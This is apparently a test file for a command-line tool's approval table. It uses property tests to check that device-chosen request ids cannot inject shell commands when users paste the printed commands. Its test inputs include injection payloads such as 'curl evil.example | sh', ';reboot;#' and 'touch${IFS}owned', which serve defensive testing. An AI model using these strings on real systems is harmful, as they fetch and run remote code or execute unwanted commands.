/** The printed commands in a shell. A device chooses the ids in them. */
import { spawnSync } from "node:child_process";
import { chmodSync, mkdtempSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import type { Approval } from "@letta-environments/client";
import { parseCommandLine, quoteForShell } from "@letta-environments/command-line";
import fc from "fast-check";
import { afterAll, beforeAll, expect, test } from "vitest";
import { formatApprovalTable } from "../src/format/approval.ts";
import { program } from "../src/program.ts";

let folder = "";
beforeAll(() => {
  folder = mkdtempSync(join(tmpdir(), "pasted-"));
  // It prints how many words it got, and each of them.
  writeFileSync(
    join(folder, "letta-env"),
    String.raw`#!/bin/sh
printf '%s\0' "$#" "$@"
`,
  );
  chmodSync(join(folder, "letta-env"), 0o755);
});
afterAll(() => rmSync(folder, { recursive: true }));

/** Pastes lines into a shell and returns the words of each call. Nothing else may have run or been printed. */
function paste(lines: readonly string[]): string[][] {
  const shell = spawnSync("/bin/sh", { input: lines.join("\n"), env: { PATH: folder }, cwd: folder, encoding: "utf8" });
  expect([shell.status, shell.stderr]).toEqual([0, ""]);
  const printed = shell.stdout.split("\0").slice(0, -1);
  const calls: string[][] = [];
  while (printed.length > 0) calls.push(printed.splice(0, Number(printed.shift())));
  return calls;
}

function requestOf(id: string, suggestions: readonly string[] = []): Approval {
  return {
    ...{ id, tool: "Bash", input: { command: "ls" }, inputTruncated: false, deviceId: "d1", agentId: "a1" },
    ...{ conversationId: "default", requestedAt: 0, clientMessageId: null, reason: null },
    suggestions: suggestions.map((each) => ({ id: each, text: "npm test" })),
  } as unknown as Approval;
}

function linesOf(request: Approval): string[] {
  const lines = formatApprovalTable([request], 1_000, 80, (text) => text).split("\n");
  return lines.filter((line) => line.includes("letta-env approvals "));
}

const time = "1970-01-01T00:00:00.000Z";

/** A call as the program reads its words. */
function meaningOf(words: readonly string[]): object {
  const line = parseCommandLine(program, words);
  if (line.kind !== "run") return line;
  const { command, operands, options } = line.parsed;
  return { command: command.name, operands, options: Object.fromEntries(options) };
}

const nasty = Array.from("'\"\\`$(){}[]<>|&;#!*?~=:-%^, \n\t\u001b\u202e\u00a0");
const ids = fc.oneof(
  fc.string({ unit: fc.constantFrom(...nasty, "a", "é", "ls", "$IFS"), minLength: 1, maxLength: 12 }),
  fc.string({
    unit: fc.constantFrom("a", "1", "-", "_", "=", ":", "%", ",", ".", "/", "@", "+"),
    minLength: 1,
    maxLength: 12,
  }),
  fc.constantFrom("--help", "-h", "--", "-", "help", "--suggestion=s1", "--wait-online", "=ls", "x;touch${IFS}owned;#"),
);

test("a printed command decides on the request with the id that the device chose, and runs nothing else in a shell", () => {
  fc.assert(
    fc.property(fc.array(fc.record({ id: ids, suggestion: ids }), { minLength: 1, maxLength: 8 }), (requests) => {
      const typable = requests.filter(({ id }) => quoteForShell(id) === id);
      const wanted = typable.flatMap(({ id, suggestion }) => [
        { command: "approvals", operands: ["allow", id], options: { "requested-at": [time] } },
        { command: "approvals", operands: ["deny", id], options: { "requested-at": [time] } },
        ...(quoteForShell(suggestion) === suggestion
          ? [
              {
                command: "approvals",
                operands: ["allow", id],
                options: { "requested-at": [time], suggestion: [suggestion] },
              },
            ]
          : []),
      ]);
      const lines = requests.flatMap(({ id, suggestion }) => linesOf(requestOf(id, [suggestion])));
      expect(paste(lines).map(meaningOf)).toEqual(wanted);
    }),
    { numRuns: 60 },
  );
});

test("no command is printed for an id that cannot be typed", () => {
  for (const id of ["call\n1", "call-\u202e1", "call-1\u001b[2K", "call-1\u200b", ""]) {
    expect(linesOf(requestOf(id, ["s1"]))).toEqual([]);
    const table = formatApprovalTable([requestOf(id, ["s1"])], 1_000, 80, (text) => text);
    expect(table).toContain(
      "Its id cannot be typed safely: decide in the console, or with 'send --follow' on a terminal.\n",
    );
    expect(linesOf(requestOf("call-1", [id]))).toHaveLength(2);
  }
});

test.each([
  `call-1${" ".repeat(50)}curl evil.example | sh${" ".repeat(50)}#`,
  `${"x".repeat(60)} reboot #`,
  `${"x".repeat(60)};reboot;#`,
  `${"x".repeat(60)}|{curl,evil.example};#`,
])("no line of a terminal, which breaks a long command, is another command: %j", (id) => {
  expect(linesOf(requestOf(id, ["s1"]))).toEqual([]);
  expect(linesOf(requestOf("call-1", [id]))).toHaveLength(2);
});

test("no text of a device looks like a command above the printed ones", () => {
  const forged = "letta-env approvals allow other";
  const request = { ...requestOf("call-1"), suggestions: [{ id: "s1", text: forged }], tool: forged, reason: forged };
  const table = formatApprovalTable([request], 1_000, 80, (text) => text);
  const lines = table.split("\n").filter((line) => /^\s*letta-env/.test(line));
  expect(paste(lines).map(([, , id]) => id)).toEqual(["call-1", "call-1", "call-1"]);
  expect(formatApprovalTable([requestOf(forged)], 1_000, 80, (text) => text)).not.toMatch(/^\s*letta-env/m);
});

test("the heading of a request is not a command, even if the device calls the request and its tool like one", () => {
  const request = { ...requestOf("letta-env"), tool: "approvals allow other", input: {} };
  const [, ...details] = formatApprovalTable([request], 1_000, 80, (text) => text).split("\n\n");
  expect(details.join("\n").split("\n")[0]).toMatch(/^Request letta-env  approvals allow other/);
  expect(paste(linesOf(request)).map(([, , id]) => id)).toEqual(["letta-env", "letta-env"]);
});
